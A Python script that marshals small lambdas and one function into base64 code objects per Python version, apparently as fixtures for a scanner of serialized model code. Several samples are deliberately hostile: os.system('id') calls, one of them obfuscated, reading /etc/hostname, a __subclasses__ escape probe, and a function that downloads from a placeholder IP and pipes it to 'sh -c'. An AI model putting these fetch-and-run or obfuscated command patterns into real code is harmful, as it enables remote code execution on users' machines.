"""Code objects of one Python, as lines of JSON for code.json; run with each Python from 2.7 to 3.14. Nothing in them is called.
    for python in python2.7 python3.6 ... python3.14; do $python make-code.py; done > code.json"""
import base64, json, marshal, sys
SOURCES = {
    'scale': 'lambda x: x * 2 + 1',
    'mean': 'lambda x, axis=-1: tf.reduce_mean(tf.cast(x, "float32"), axis=axis, keepdims=True)',
    'system': 'lambda x: __import__("os").system("id") or x',
    'pieces': 'lambda x: (getattr(__import__("o" + "s"), "sys" + "tem")("id"), x)[1]',
    'nested': 'lambda x: [open(name).read() for name in ["/etc/hostname"]] and x',
    'eval': 'lambda x: eval(compile("1+1", "s", "eval")) and x',
    'dunder': 'lambda x: ().__class__.__base__.__subclasses__()[137] and x',
    'backend': 'lambda x: K.l2_normalize(x[:, 1:], axis=1)',
    'starred': 'lambda x, *rest, **more: dict(a=x, *rest, **more)' if sys.version_info < (3,) else 'lambda x, *rest, **more: f(*rest, **more)',
}
FUNCTION = '''
def f(x):
    import subprocess as s
    from urllib.request import urlopen
    try:
        for url in ["http://192.0.2.1/a"]:
            s.run(["sh", "-c", urlopen(url).read()], check=True)
    except ValueError as error:
        print(error)
    with open("/tmp/x", "w") as out:
        out.write("a" if x else "b")
    return x
'''
codes = dict((name, eval(source).__code__) for name, source in SOURCES.items())
codes['function'] = compile(FUNCTION, 'f.py', 'exec')
print('%s"%d.%d": %s' % (',' if sys.version_info[:2] > (2, 7) else '{', sys.version_info[0], sys.version_info[1], json.dumps(
    dict((name, base64.b64encode(marshal.dumps(code)).decode()) for name, code in codes.items()), sort_keys=True)))
if sys.version_info[:2] >= (3, 14):
    print('}')
